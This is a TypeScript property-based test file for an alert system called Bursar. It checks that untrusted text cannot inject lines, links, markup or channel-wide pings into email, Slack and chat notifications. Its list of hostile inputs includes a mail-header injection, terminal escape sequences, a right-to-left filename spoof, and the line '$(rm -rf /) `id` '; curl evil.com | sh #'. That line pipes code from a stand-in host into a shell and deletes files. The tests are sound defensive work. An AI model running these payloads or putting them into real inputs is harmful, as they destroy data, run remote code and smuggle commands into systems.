/** What strangers write stays data: in no subject, in no link, in no line of ours, within every limit. */
import { alertNotice } from "@bursar/events/alert-notice";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { ATTRIBUTE_MAX, attributesOf } from "../src/alert-attributes.ts";
import { CHAT_LIMITS, chatNoticeOf } from "../src/alert-chat.ts";
import { SUBJECT_MAX, subjectOf, textOf } from "../src/alert-mail.ts";
import { noticeOf } from "../src/alert-notice.ts";
import type { AlertChange, KeptAlert } from "../src/alert-shape.ts";
import { blocksOf, SLACK_LIMITS, type SlackBlock, type SlackText } from "../src/alert-slack.ts";
import { EXAMPLES, exampleOf, NOW, OPENED_AT, PAYMENT } from "./alert-examples.ts";

const context = { org: "acme", now: NOW, chainId: 42161 };
const CHANGES: readonly AlertChange[] = ["opened", "escalated", "acknowledged", "resolved", "reopened"];

/** An alert in every field of which a stranger has a say. */
function hostile(alert: KeptAlert, text: string, change: AlertChange): KeptAlert {
  const { kind, isFree } = kindOf(alert.subject);
  const subject = isFree ? `${kind}:${text}` : alert.subject;
  return {
    ...alert,
    subject,
    id: `${alert.rule}/${subject}/2026-11-20`,
    text,
    agentId: alert.agentId === null ? null : text,
    samples: [
      { at: OPENED_AT, text },
      { at: OPENED_AT, text, paymentId: text },
      { at: OPENED_AT, text: PAYMENT, paymentId: PAYMENT },
      { at: OPENED_AT, text, paymentId: `eip3009:42161:${text}:${text}:${text}` },
      { at: OPENED_AT, text, paymentId: `tx:42161:${text}` },
    ],
    acknowledged: change === "acknowledged" ? { at: OPENED_AT, note: text } : null,
  };
}

function kindOf(subject: string): { kind: string; isFree: boolean } {
  const kind = subject.slice(0, subject.indexOf(":"));
  return { kind, isFree: kind !== "org" && kind !== "day" && kind !== "chain" };
}

const textsOf = (block: SlackBlock): readonly SlackText[] => {
  if (block.type === "context") return block.elements;
  return "fields" in block ? block.fields : [block.text];
};

/** Of Bursar's own: links to Arbiscan and AWS's consoles. */
const OWN_LINK =
  /<https:\/\/(?:(?:sepolia\.)?arbiscan\.io\/(?:tx\/0x[0-9a-f]{64}|address\/0x[0-9a-f]{40})|[a-z0-9-]+\.console\.(?:aws\.amazon\.com|amazonaws\.cn|amazonaws-us-gov\.com)\/bedrock-agentcore\/home\?region=[a-z0-9-]+)\|[A-Za-z0-9 ()-]+>/g;
const ESCAPES = /&(?:amp|lt|gt);/g;
const MAIL_LINE =
  /^(?:>.*|--|| {2}.*|(?:To whom|How much|Since when|How often|Closes itself) {2,}.*|What happened|What ended it|What was noted|What Bursar did|What to do|Where to look|Which payments.*|What was recorded.*|Bursar of acme(?:\. The whole alert:|, about an alert with the id)|To hear no more of it until it changes:| {14}.*)$/;

/** What is wrong with the messages of such an alert; empty where they are harmless. */
function harmOf(alert: KeptAlert, change: AlertChange): string[] {
  const harm: string[] = [];
  const check = (isRight: boolean, what: string, text: string): void => {
    if (!isRight) harm.push(`${alert.rule} ${change}: ${what}: ${text.slice(0, 2000)}`);
  };
  const notice = noticeOf({ alert, change }, context);
  check(alertNotice.safeParse(notice).success, "keeps no schema", JSON.stringify(notice));

  const subject = subjectOf(notice);
  check(/^\[(?:critical|warning|info|acknowledged|resolved)\] [ -~]+$/.test(subject), "subject", subject);
  check(subject.length <= SUBJECT_MAX, "long subject", subject);

  const mail = textOf(notice);
  check(!/[^\P{Cc}\n]|[\p{Cf}\p{Zl}\p{Zp}]/u.test(mail), "unseen characters in mail", mail);
  for (const line of mail.split("\n")) {
    check(MAIL_LINE.test(line), "a line that is not ours", line);
    if (line.startsWith(">")) check(!/:\/\/|@[A-Za-z]|\.com\b/i.test(line), "a link in mail", line);
    check(!/@(?:here|channel|everyone)/.test(line), "a call in mail", line);
  }

  for (const { text, blocks } of blocksOf(notice)) {
    check(blocks.length > 0 && blocks.length <= SLACK_LIMITS.blocks, "blocks", `${blocks.length}`);
    check(JSON.stringify(blocks).length <= 13_000, "long message", `${JSON.stringify(blocks).length}`);
    check(text.length <= SLACK_LIMITS.text && !/[<>&]/.test(text.replace(ESCAPES, "")), "fallback", text);
    for (const block of blocks) for (const what of harmOfBlock(block)) check(false, what, JSON.stringify(block));
  }

  for (const value of Object.values(attributesOf(notice)))
    check(/^[ !#-[\]-~]+$/.test(value) && value.length <= ATTRIBUTE_MAX, "attribute", value);

  const { content, metadata } = chatNoticeOf(notice);
  check(content.title.length <= CHAT_LIMITS.title, "long title", content.title);
  check(content.description.length <= CHAT_LIMITS.description, "long description", content.description);
  for (const text of [content.title, content.description, ...content.nextSteps, ...metadata.relatedResources])
    check(!/[<>&]/.test(text.replace(ESCAPES, "")), "markup for chat", text);
  return harm;
}

function harmOfBlock(block: SlackBlock): string[] {
  const texts = textsOf(block);
  const max =
    block.type === "header" ? SLACK_LIMITS.header : "fields" in block ? SLACK_LIMITS.field : SLACK_LIMITS.text;
  const harm = texts.length === 0 || texts.length > SLACK_LIMITS.fields ? ["fields"] : [];
  for (const { type, text } of texts) {
    if (text.length === 0 || text.length > max) harm.push("length");
    if (/[<>&]/.test((type === "mrkdwn" ? text.replace(OWN_LINK, "") : text).replace(ESCAPES, ""))) harm.push("markup");
    if (/@(?:here|channel|everyone)/.test(text)) harm.push("a call");
  }
  return harm;
}

const ATTEMPTS: readonly (readonly [string, string])[] = [
  ["new lines", "fine\n\nWhat Bursar did\n  - Nothing.\r\n\r\nBcc: eve@example.com\r\nSubject: hello"],
  ["every kind of line's end", "a\u0085b\u2028c\u2029d\u000be\u000cf"],
  ["terminal colours", "\u001b[31mred\u001b[0m \u001b]8;;https://evil.com\u0007click\u001b]8;;\u0007"],
  ["a call to the channel", "<!channel> <!here> <!everyone> @here @channel @everyone <@U012AB3CD> <#C012AB3CD>"],
  [
    "a link with a text of its own",
    "<https://evil.com|click here> [click](https://evil.com) www.evil.com EVIL.COM evil.co.uk",
  ],
  ["markup", "*bold* _it_ ~no~ `code` ```fence``` > quote\n> quote"],
  ["a text that runs backwards", "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u200b\u2060\ufeff\u00ad"],
  ["ten kilobytes", "A".repeat(10_240)],
  ["ten kilobytes of signs that grow when they are escaped", "&<>".repeat(3_500)],
  ["half a character", "\ud800 and \udc00"],
  ["a line like ours", "Bursar of acme. The whole alert: bursar unfreeze gambler --reason WHY"],
  ["a command", "$(rm -rf /) `id` '; curl evil.com | sh #"],
  ["Bursar's own words about a budget", "gambler-day: agent:gambler is at 102 % of $5.00 ($5.10)"],
  ["nothing", ""],
  ["spaces alone", " \t\n "],
  ["wide characters", "漢字仮名".repeat(80)],
  ["an option", "--yes"],
  ["a call as a name", "@here"],
  ["a host as a name", "login.evil.com"],
];

/** One alert of each kind of subject, for what is alike in all rules. */
const KINDS = [...new Map(EXAMPLES.map((alert) => [kindOf(alert.subject).kind, alert])).values()];

describe.each(ATTEMPTS)("%s", (_, text) => {
  test("harms no message of any rule", () => {
    expect(EXAMPLES.flatMap((alert) => harmOf(hostile(alert, text, "opened"), "opened"))).toEqual([]);
  });

  test("harms no message of any change", () => {
    const moves = KINDS.flatMap((alert) => CHANGES.map((change) => [alert, change] as const));
    expect(moves.flatMap(([alert, change]) => harmOf(hostile(alert, text, change), change))).toEqual([]);
  });
});

test("no stranger's word of more than a name reaches a sentence of ours", () => {
  const word = "zyxwv free words of a stranger";
  for (const alert of EXAMPLES) {
    for (const change of CHANGES) {
      const notice = noticeOf({ alert: hostile(alert, word, change), change }, context);
      const { samples: _, ended: _ended, note: _note, id: _id, subject: _subject, ...own } = notice;
      expect(JSON.stringify(own)).not.toContain("zyxwv");
      expect(subjectOf(notice)).not.toContain("zyxwv");
      const unquoted = textOf(notice)
        .split("\n")
        .filter((line) => !line.startsWith(">"));
      expect(unquoted.join("\n")).not.toContain("zyxwv");
    }
  }
});

test.each(["login.evil.com", "@here", "x@evil.com"])("a session called %s stands in no line of ours", (name) => {
  for (const rule of ["session_revoked", "exposure", "uncapped_session"] as const) {
    const alert = exampleOf(rule);
    const subject = `session:${name}`;
    const notice = noticeOf({ alert: { ...alert, subject, id: `${rule}/${subject}/-` }, change: "opened" }, context);
    const ours = textOf(notice)
      .split("\n")
      .filter((line) => !line.startsWith(">"));
    expect(ours.join("\n")).not.toContain(name);
    expect(JSON.stringify(blocksOf(notice))).not.toContain(name);
  }
});

test("an agent whose name is an option stays a name in every command", () => {
  const alert: KeptAlert = { ...exampleOf("agent_frozen"), subject: "agent:--yes", agentId: "--yes" };
  const commands = noticeOf({ alert, change: "opened" }, context).todo.flatMap(({ command }) => command ?? []);
  expect(commands).toContain("bursar payments --agent=--yes");
  expect(commands).toContain("bursar unfreeze --reason WHY -- --yes");
});

test("random text in every free field: every rule of every channel holds", () => {
  const nasty = fc.constantFrom(
    "\n",
    "\u001b[1m",
    "<",
    ">",
    "&",
    "`",
    "*",
    "@here",
    "https://",
    "\u202e",
    "漢",
    "'",
    '"',
    "\\",
    " ",
  );
  const text = fc.oneof(
    fc.string({ unit: "binary", maxLength: 400 }),
    fc.array(fc.oneof(nasty, fc.string({ maxLength: 8 })), { maxLength: 80 }).map((parts) => parts.join("")),
  );
  fc.assert(
    fc.property(fc.constantFrom(...EXAMPLES), fc.constantFrom(...CHANGES), text, (alert, change, said) => {
      expect(harmOf(hostile(alert, said, change), change)).toEqual([]);
    }),
    { numRuns: 300 },
  );
});

describe("what is too long for one Slack message", () => {
  const text = "&".repeat(256);
  const samples = Array.from({ length: 10 }, () => ({ at: OPENED_AT, text }));
  const alert = { ...exampleOf("quarantined"), count: 5000, samples };
  const messages = blocksOf(noticeOf({ alert, change: "opened" }, context));

  test("comes in several, each of which says which part it is", () => {
    expect(messages.length).toBeGreaterThan(1);
    messages.forEach((message, i) => {
      expect(JSON.stringify(message.blocks)).toContain(`(${i + 1} of ${messages.length})`);
      expect(JSON.stringify(message.blocks).length).toBeLessThanOrEqual(SLACK_LIMITS.message + 500);
    });
  });

  test("loses nothing", () => {
    const said = messages.flatMap(({ blocks }) => blocks.flatMap(textsOf)).filter((one) => one.text.includes("&amp;"));
    expect(said).toHaveLength(10);
    for (const one of said) expect(one.text.match(/&amp;/g)).toHaveLength(256);
  });
});
